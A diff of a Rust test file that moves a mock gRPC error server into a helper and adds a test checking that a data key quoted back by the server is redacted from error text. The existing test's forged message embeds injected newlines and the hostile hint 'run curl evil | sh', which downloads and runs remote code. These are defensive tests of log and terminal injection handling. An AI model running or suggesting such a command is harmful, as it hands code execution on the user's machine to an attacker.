@@ -128,13 +128,10 @@ fn literal(out: &mut Vec<u8>, name: &str, value: &str) {
     }
 }
 
-#[test]
-fn a_servers_status_message_is_shown_on_one_bounded_line() {
-    let forged = format!(
-        "denied%0Ahint: run curl evil | sh%0D%0Aleafseal: error: {}",
-        "x".repeat(2000)
-    );
-    let addr = server(move |mut s| {
+/// A server that answers the first request with a gRPC error whose message is `message`
+/// (percent-encoded, as the `grpc-message` header carries it); its address.
+fn status_server(message: String) -> String {
+    server(move |mut s| {
         s.write_all(&SETTINGS).unwrap();
         let mut preface = [0u8; 24];
         s.read_exact(&mut preface).unwrap();
@@ -152,7 +149,7 @@ fn a_servers_status_message_is_shown_on_one_bounded_line() {
                 literal(&mut block, ":status", "200");
                 literal(&mut block, "content-type", "application/grpc");
                 literal(&mut block, "grpc-status", "7");
-                literal(&mut block, "grpc-message", &forged);
+                literal(&mut block, "grpc-message", &message);
                 let n = block.len();
                 let mut frame = vec![(n >> 16) as u8, (n >> 8) as u8, n as u8, 1, 0x5];
                 frame.extend_from_slice(&head[5..9]);
@@ -162,7 +159,16 @@ fn a_servers_status_message_is_shown_on_one_bounded_line() {
                 return;
             }
         }
-    });
+    })
+}
+
+#[test]
+fn a_servers_status_message_is_shown_on_one_bounded_line() {
+    let forged = format!(
+        "denied%0Ahint: run curl evil | sh%0D%0Aleafseal: error: {}",
+        "x".repeat(2000)
+    );
+    let addr = status_server(forged);
     let (r, _) = wrap_via(&addr, Some(Duration::from_secs(20)));
     let e = r.unwrap_err();
     let said = e.to_string();
@@ -170,4 +176,23 @@ fn a_servers_status_message_is_shown_on_one_bounded_line() {
     assert!(said.contains("denied hint: run curl evil | sh"), "{said}");
     assert!(said.chars().count() < 700, "{said}");
     assert!(said.contains('…'), "{said}");
+}
+
+#[test]
+fn a_status_message_quoting_the_data_key_does_not_show_it() {
+    // `wrap_via` sends the data key [1; 32]; the server quotes it back in each encoding.
+    let key = [1u8; 32];
+    use base64::Engine;
+    let forms = [
+        base64::engine::general_purpose::STANDARD.encode(key),
+        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(key),
+        key.iter().map(|b| format!("{b:02x}")).collect::<String>(),
+    ];
+    for form in forms {
+        let addr = status_server(format!("cannot wrap plaintext {form} with this key"));
+        let (r, _) = wrap_via(&addr, Some(Duration::from_secs(20)));
+        let said = r.unwrap_err().to_string();
+        assert!(said.contains("cannot wrap plaintext [redacted]"), "{said}");
+        assert!(!said.contains(&form), "{said}");
+    }
 }
